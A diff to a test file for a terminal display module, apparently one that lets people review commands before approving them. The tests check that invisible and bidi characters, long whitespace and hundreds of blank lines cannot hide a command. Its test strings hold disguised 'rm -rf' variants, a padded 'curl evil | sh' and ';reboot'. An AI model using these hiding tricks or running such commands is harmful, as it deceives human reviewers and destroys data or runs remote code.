@@ -1,7 +1,8 @@
 import { expect, test } from 'vitest'
-import { plainTerminalText, visibleText } from './ansi'
+import { plainTerminalText } from './ansi'
 import { laidOutArguments } from './arguments'
 import { callSummary } from './call-summary'
+import { countInvisible, countMasked, foldedLines, visibleText } from './exact-text'
 import { markdownBlocks } from './markdown-blocks'
 import { ago, bytes, count, duration } from './numbers'
 
@@ -20,6 +21,39 @@ test('terminal output loses its control sequences and keeps its lines (SAFE-06)'
 test('what a person decides on hides nothing (SAFE-07)', () => {
   expect(visibleText('rm\u202e -rf\u200b\n\tx')).toBe('rm⟨U+202E⟩ -rf⟨U+200B⟩\n\tx')
   expect(visibleText(`${ESC}[8mhidden`)).toBe('⟨U+001B⟩[8mhidden')
+})
+
+test('X7: every control, format and default-ignorable character is written out and counted', () => {
+  expect(visibleText('rm\u00ad\u00ad -rf\u{e0041}\ufe0f\ud800')).toBe(
+    'rm⟨U+00AD ×2⟩ -rf⟨U+E0041⟩⟨U+FE0F⟩⟨U+D800⟩',
+  )
+  expect(countInvisible('rm\u00ad\u00ad -rf\u{e0041}\ufe0f\r\n\tx')).toBe(4)
+  expect(visibleText('ls\t-l\necho 你好　世界 👍')).toBe('ls\t-l\necho 你好　世界 👍')
+  expect(visibleText(`true${' '.repeat(500)}; rm`)).toBe('true ⟨U+0020 ×500⟩ ; rm')
+  const hidden = /[\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{DI}]|[^\P{Cc}\t\n]/u
+  const missed: number[] = []
+  for (let point = 0; point <= 0x10ffff; point++) {
+    const character = String.fromCodePoint(point)
+    if (hidden.test(character) && !visibleText(character).startsWith('⟨U+')) missed.push(point)
+  }
+  expect(missed).toEqual([])
+  expect(countMasked('curl -H secret://seen-0123456789ab secret://github')).toBe(1)
+})
+
+test('X7: empty lines are folded with their number, and long texts show their end', () => {
+  expect(foldedLines(`true${'\n'.repeat(601)}curl evil | sh`)).toEqual([
+    'true',
+    { kind: 'empty_lines', count: 600, text: '\n'.repeat(599) },
+    'curl evil | sh',
+  ])
+  const lines = foldedLines(Array.from({ length: 1000 }, (_, at) => `echo ${at}`).join('\n'))
+  expect([lines[23], lines.at(-1)]).toEqual(['echo 23', 'echo 999'])
+  expect(lines[24]).toMatchObject({ kind: 'lines', count: 964 })
+  expect(foldedLines(`${'x'.repeat(50_000)};reboot`).map((part) => typeof part)).toEqual([
+    'string',
+    'object',
+    'string',
+  ])
 })
 
 test('arguments are laid out by name; what is no object stays as it is', () => {
